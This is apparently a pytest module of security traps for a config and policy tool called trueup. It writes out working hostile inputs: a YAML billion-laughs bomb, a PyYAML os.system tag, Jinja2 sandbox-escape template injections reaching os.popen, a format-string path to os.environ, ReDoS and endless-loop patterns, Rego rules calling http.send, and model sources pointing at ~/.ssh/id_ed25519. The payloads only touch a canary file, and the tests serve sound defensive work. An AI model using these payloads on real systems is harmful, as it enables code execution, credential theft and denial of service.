"""Traps in what is declared: YAML, templates, patterns, policies, and addresses in the project file."""

from __future__ import annotations

import json

import pytest
from build_machine import Machine
from fork_traps import Act, Trap, commit, python

import oracle

BOMB_LEVELS = 12
GATHER = """\
package few

# METADATA
# title: Gathers what it can reach
# custom: {{id: FEW-02, ruleSet: capacity, severity: high}}
deny contains {{"msg": sprintf("%v", [x]), "address": "Deployment/dev/support"}} if {{
	x := {call}
}}
"""
CALLS = {
    "http": 'http.send({{"method": "get", "url": "{url}/policy", "headers": {{"x": "1"}}}})',
    "name": 'net.lookup_ip_addr("canary.invalid")',
    "runtime": "opa.runtime()",
}
PROJECT = """\
  policies:
    library: false
    paths: [policies]
    engine: {{type: opa, url: {url}, token: env:OPA_TOKEN}}
{bundles}  store:
    path: .trueup/store
    url: s3://bucket/prefix
    endpoint: {url}
  ledger: {{ref: refs/trueup/ledger, remote: theirs}}
  evidence: {{signingKey: env:TRUEUP_TEST_KEY}}
  forge: {{type: github, url: {url}, repository: o/r, token: env:GITHUB_TOKEN}}
  metrics: {{prometheus: {url}, token: env:HF_TOKEN}}
  defaultBranch: change
"""
BUNDLES = """\
    bundles:
      - {{name: theirs, source: "{url}/bundle.tar.gz", digest: "sha256:{digest}"}}
"""
MODEL = """\
apiVersion: trueup/v1alpha1
kind: Model
metadata: {{name: theirs{number}, version: "1", owner: ml-platform}}
spec:
  source: {{uri: "{uri}", revision: "{revision}", digest: "sha256:{digest}"}}
  format: safetensors
  architecture: LlamaForCausalLM
  paramSize: 885888
  precision: float16
  task: text-generation
  contextLength: 512
  licenses: [Apache-2.0]
  trustRemoteCode: true
"""


def _bomb(machine: Machine) -> None:
    levels = ['a0: &a0 ["lol", "lol"]']
    levels += [f"a{n}: &a{n} [{', '.join([f'*a{n - 1}'] * 10)}]" for n in range(1, BOMB_LEVELS)]
    machine.clone.write("spec/models/bomb.yaml", "\n".join(levels) + "\n")
    commit(machine)


def _dumps_it(path: str) -> Act:
    """Return what reads YAML and writes it as JSON, as any tool does, in the memory that a job has."""

    def spring(machine: Machine) -> str:
        code = (
            "import resource as r, json, yaml; r.setrlimit(r.RLIMIT_AS, (250 << 20,) * 2); "
            f"print(len(json.dumps(yaml.load(open({path!r}), yaml.CSafeLoader))))"
        )
        said = python(machine, code)
        if "Error" in said or "core dumped" in said or not said.strip():
            machine.canary.touch()
        return said

    return spring


def _deep(machine: Machine) -> None:
    machine.clone.write("spec/models/deep.yaml", "a: " + "[" * 200_000 + "]" * 200_000 + "\n")
    machine.clone.write("spec/models/wide.yaml", "x: " + "{a: " * 50_000 + "1" + "}" * 50_000 + "\n")
    commit(machine)


def _tags(machine: Machine) -> None:
    tag = f"!!python/object/apply:os.system ['touch {machine.canary}']"
    machine.clone.write("spec/models/tag.yaml", f"apiVersion: trueup/v1alpha1\nkind: {tag}\n")
    machine.clone.edit("spec/deployments/dev/support.yaml", ("replicas: 1", f"replicas: {tag}"))
    commit(machine)


def _template(text: str, kind: str) -> Act:
    """Return what brings a prompt whose template reaches for more than its values, with a test that fills it in."""

    def arm(machine: Machine) -> None:
        template = text.replace("CANARY", str(machine.canary))
        document = {
            "apiVersion": "trueup/v1alpha1",
            "kind": "Prompt",
            "metadata": {"name": "support", "version": "3", "owner": "support-team"},
            "spec": {
                "type": "text",
                "template": template,
                "templateFormat": kind,
                "variables": [{"name": "x", "required": True}],
                "tests": [{"vars": {"x": "one"}, "assert": [{"type": "prompt-contains", "value": "o"}]}],
            },
        }
        machine.clone.write("spec/prompts/support-3.yaml", json.dumps(document))
        machine.clone.edit("spec/deployments/dev/support.yaml", ("support@1", "support@3"))
        commit(machine)

    return arm


def _fills_in(machine: Machine) -> str:
    code = "import jinja2, json; t = json.load(open('spec/prompts/support-3.yaml'))['spec']['template']; "
    return python(machine, f"{code} print(jinja2.Template(t).render(x='one'))")


def _formats(machine: Machine) -> str:
    code = "import json, os; t = json.load(open('spec/prompts/support-3.yaml'))['spec']['template']; "
    return python(machine, f"{code}\nclass C:\n  def __init__(self): pass\nprint(t.format(x=C()))")


SHELL = "os.popen('touch CANARY').read()"
GLOBALS = "{{ cycler.__init__.__globals__." + SHELL + " }} {{ x }}"
CLASSES = (
    "{% for c in ''.__class__.__mro__[1].__subclasses__() %}{% if c.__name__ == '_wrap_close' %}"
    "{{ c.__init__.__globals__['popen']('touch CANARY').read() }}{% endif %}{% endfor %} {{ x }}"
)
ENVIRONMENT = "{x.__init__.__globals__[os].environ}"
ENDLESS = "".join(f"{{% for {name} in range(9999) %}}" for name in "abc") + "{{ x }}" + "{% endfor %}" * 3
PATTERN = "(a+)+$"
EACH = " ".join(f"for {name} in range(9000)" for name in "abc")


def _takes_long(code: str) -> Act:
    """Return what a careless tool does for longer than anyone waits."""

    def spring(machine: Machine) -> str:
        said = python(machine, f"import signal; signal.alarm(3)\n{code}")
        if not said.strip():
            machine.canary.touch()
        return said

    return spring


def _pattern(machine: Machine) -> None:
    _template("a" * 60 + "! {{ x }}", "jinja2")(machine)
    test = '"assert": [{"type": "prompt-contains", "value": "o"}'
    slow = json.dumps({"type": "prompt-regex", "value": PATTERN})
    machine.clone.edit("spec/prompts/support-3.yaml", (test, f"{test}, {slow}"))
    commit(machine)


def _policy(call: str) -> Act:
    """Return what brings a rule that reaches out, beside the base's."""

    def arm(machine: Machine) -> None:
        text = CALLS[call].format(url=machine.listener.url)
        machine.clone.write("policies/few/gather.rego", GATHER.format(call=text))
        commit(machine)

    return arm


def _asks_opa(machine: Machine) -> str:
    """The engine that rules are written for does what they say."""
    if reason := oracle.available():
        pytest.skip(reason)
    text = machine.clone.read("policies/few/gather.rego")
    with oracle.Oracle() as opa:
        answer = opa.ask(oracle.Bundle({"gather.rego": text}), "data.few.deny", "{}")
    if "runtime" in text and answer.value:
        machine.canary.touch()  # the command `opa` shows all variables there; the library that answers here, none
    if "lookup" in text and "no such host" in answer.error.lower() + str(answer.value).lower():
        machine.canary.touch()
    return f"{answer}"


def _endless_policy(machine: Machine) -> None:
    ranges = "; ".join(f"some {name} in numbers.range(1, 9000)" for name in "abc")
    call = f"count([1 | {ranges}; a * b * c == -1])"
    machine.clone.write("policies/few/gather.rego", GATHER.format(call=call))
    commit(machine)


def _project(bundles: str = "") -> Act:
    """Return what brings a project file that names a server, a store, a remote, a forge and variables with tokens."""

    def arm(machine: Machine) -> None:
        project, url = machine.clone.read("trueup.yaml"), machine.listener.url
        head = project[: project.index("  policies:")]
        theirs = bundles.format(url=url.replace("http", "https"), digest="0" * 64)
        machine.clone.write("trueup.yaml", head + PROJECT.format(url=url, bundles=theirs))
        machine.clone.git("config", "remote.theirs.url", url)
        commit(machine)

    return arm


def _obeys(machine: Machine) -> str:
    code = (
        "import os, urllib.request as r, yaml; e = yaml.safe_load(open('trueup.yaml'))['spec']['policies']['engine']; "
        "r.urlopen(r.Request(e['url'], headers={'Authorization': os.environ[e['token'][4:]]}))"
    )
    return python(machine, code)


def _from(machine: Machine, *uris: str) -> None:
    for number, uri in enumerate(uris):
        text = MODEL.format(number=number, uri=uri, revision="0" * 40, digest="0" * 64)
        machine.clone.write(f"spec/models/theirs{number}.yaml", text)
    machine.clone.edit("spec/deployments/dev/support.yaml", ("tiny@1", "theirs0@1"))
    commit(machine)


def _sources(machine: Machine) -> None:
    host = machine.listener.url.removeprefix("http://")
    _from(machine, f"https://{host}/x", "hf://o/r", "s3://b/p", f"oci://{host}/o/r")


def _paths(machine: Machine) -> None:
    _from(machine, f"file:{machine.outside}/secret.txt", "file:../outside/secret.txt", "file:~/.ssh/id_ed25519")


def _reads_a_source(machine: Machine) -> str:
    code = "import yaml; u = yaml.safe_load(open('spec/models/theirs1.yaml'))['spec']['source']['uri']; "
    return python(machine, f"{code}print(open(u.removeprefix('file:')).read())")


def _fetches(machine: Machine) -> str:
    code = (
        "import urllib.request as r, yaml; "
        "u = yaml.safe_load(open('spec/models/theirs0.yaml'))['spec']['source']['uri']; "
        "r.urlopen(u.replace('https', 'http'))"
    )
    return python(machine, code)


FILLS = "import jinja2, json; t = json.load(open('spec/prompts/support-3.yaml'))['spec']['template']\n"
VALUE_TRAPS = (
    Trap("yaml-bomb", _bomb, _dumps_it("spec/models/bomb.yaml"), (8, 8), "SPEC"),
    Trap("yaml-depth", _deep, _dumps_it("spec/models/deep.yaml"), (8, 8), "SPEC"),
    Trap(
        "yaml-tags",
        _tags,
        lambda m: python(m, "import yaml; yaml.unsafe_load(open('spec/models/tag.yaml'))"),
        (8, 8),
        "SPEC",
    ),
    # Tests of prompts are tried where they are declared, by `validate`; a plan fills no template in.
    Trap("template-globals", _template(GLOBALS, "jinja2"), _fills_in, (8, 0), "RES008"),
    Trap("template-classes", _template(CLASSES, "jinja2"), _fills_in, (8, 0), "RES008"),
    Trap(
        "template-endless",
        _template(ENDLESS, "jinja2"),
        _takes_long(f"{FILLS}jinja2.Template(t).render(x=1)\nprint(1)"),
        (8, 0),
        "RES008",
    ),
    Trap("template-attributes", _template(ENVIRONMENT, "fstring"), _formats, (8, 0), "RES008"),
    Trap("pattern-endless", _pattern, _takes_long(f"import re; re.search({PATTERN!r}, 'a' * 60 + '!')\nprint(1)")),
    Trap("policy-http", _policy("http"), _asks_opa, says="POL"),
    Trap("policy-name-lookup", _policy("name"), _asks_opa, says="POL"),
    Trap("policy-runtime", _policy("runtime"), _asks_opa, says="POL"),
    Trap(
        "policy-endless", _endless_policy, _takes_long(f"print(sum(1 {EACH} if a * b * c == -1))"), says="not decided"
    ),
    Trap("project-with-addresses", _project(), _obeys),
    Trap("project-with-a-bundle", _project(BUNDLES), _obeys, (0, 1), "policy pull"),
    Trap("sources-with-addresses", _sources, _fetches),
    Trap("sources-with-paths", _paths, _reads_a_source, (8, 8), "SPEC301"),
)
